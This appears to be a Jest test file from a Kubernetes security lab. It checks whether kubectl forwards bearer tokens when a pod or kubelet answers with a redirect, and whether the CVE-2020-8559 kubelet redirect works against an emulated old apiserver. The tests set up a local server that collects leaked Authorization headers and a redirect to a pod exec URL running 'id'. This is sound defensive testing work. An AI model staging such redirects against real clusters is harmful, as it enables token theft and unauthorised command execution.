import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { Attacker } from '../../attacker/attacker';
import { neighbour } from '../../attacker/position';
import { addresses, ports, webPodAddress } from '../../lab/addresses';
import { findKubectls } from './find-kubectl';
import { openWorkplace, type Workplace } from './standing.fixture';

/** Where every kubectl there is goes when it is answered with a redirect, and what it takes along. */
const kubectls = findKubectls();
const CVE = '--midplane-emulate-cve=CVE-2020-8559';

let open: Workplace;
let fixed: Workplace;
/** The attacker's, on this machine: whatever comes there, as `METHOD Authorization`. */
const came: string[] = [];
let place: Server;
let token: string;

beforeAll(async () => {
  [open, fixed] = await Promise.all([openWorkplace('none', [CVE]), openWorkplace()]);
  place = createServer(({ method, headers }, response) => {
    came.push(`${method} ${headers.authorization ?? 'without a token'}`);
    response.end('welcome');
  });
  place.listen(0, '127.0.0.1');
  await once(place, 'listening');
  const rules = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
  token = await fixed.lab.cluster.credentials.token({ namespace: 'ops', name: 'operator', rules });
}, 60_000);
afterAll(async () => {
  place?.close();
  await open?.[Symbol.asyncDispose]();
  await fixed?.[Symbol.asyncDispose]();
});

/** Answers everything at `target` with a redirect, as long as `work` takes. */
async function redirecting<T>(
  { lab }: Workplace,
  target: { address: string; port: number },
  redirectTo: { status: number; location: string },
  work: () => Promise<T>,
): Promise<T> {
  const { attackerHost, controlPlane } = lab.cluster;
  await using _ = await new Attacker({ host: attackerHost }).attack({
    technique: 'redirect',
    redirectTo,
    targets: [target],
    position: neighbour(controlPlane, attackerHost, target.address),
    present: null,
    mode: 'impersonate',
    forged: 'forged',
    tampered: 'tampered',
  });
  return await work();
}

const pod = { address: webPodAddress, port: ports.web };
const kubelet = { address: addresses.node1, port: ports.kubelet };
const PAGE = '/api/v1/namespaces/default/pods/web:8080/proxy/';

describe.each(kubectls)('kubectl $version', (kubectl) => {
  const elsewhere = (): string => `http://127.0.0.1:${(place.address() as AddressInfo).port}/`;

  test.each([301, 302, 303, 307, 308])(
    'takes its token to wherever a page of a pod says, by %d',
    async (status) => {
      came.length = 0;
      const said = await redirecting(fixed, pod, { status, location: elsewhere() }, () =>
        fixed.run(kubectl, ['--token', token, 'get', '--raw', PAGE], { role: 'token' }),
      );
      expect(said).toMatchObject({ code: 0, stdout: 'welcome' });
      expect(came).toEqual([`GET Bearer ${token}`]);
    },
  );

  test('has nothing to take along when it logs in with a certificate', async () => {
    came.length = 0;
    const said = await redirecting(fixed, pod, { status: 302, location: elsewhere() }, () =>
      fixed.run(kubectl, ['get', '--raw', PAGE]),
    );
    expect(said).toMatchObject({ code: 0, stdout: 'welcome' });
    expect(came).toEqual(['GET without a token']);
  });

  test('does not repeat what it reads from its standard input, and follows a 302 without it', async () => {
    came.length = 0;
    const post = (status: number) =>
      redirecting(fixed, pod, { status, location: elsewhere() }, () =>
        fixed.run(kubectl, ['create', '--raw', PAGE, '-f', '-'], { stdin: 'secret' }),
      );
    expect(await post(307)).toMatchObject({ code: 1, stdout: '' });
    expect(came).toEqual([]);
    expect(await post(302)).toMatchObject({ code: 0, stdout: 'welcome' });
    expect(came).toEqual(['GET without a token']);
  });

  test('is not sent anywhere by a kubelet, unless its apiserver is as old as CVE-2020-8559', async () => {
    const ask = (workplace: Workplace) => {
      const { host, port } = workplace.lab.at;
      const location = `https://${host}:${port}/api/v1/namespaces/kube-system/pods/no-such-pod/exec?command=id`;
      const env = { KUBECTL_REMOTE_COMMAND_WEBSOCKETS: 'false' };
      return redirecting(workplace, kubelet, { status: 307, location }, () =>
        workplace.run(kubectl, ['exec', 'web', '--', 'date'], { env }),
      );
    };
    const today = await ask(fixed);
    expect(today.code).not.toBe(0);
    expect(today.stderr).toContain('invalid upgrade response: status code 307');
    // The words are those of the place that it was led to.
    const then = await ask(open);
    expect(then.stderr).toContain('pods "no-such-pod" not found');
  });
});
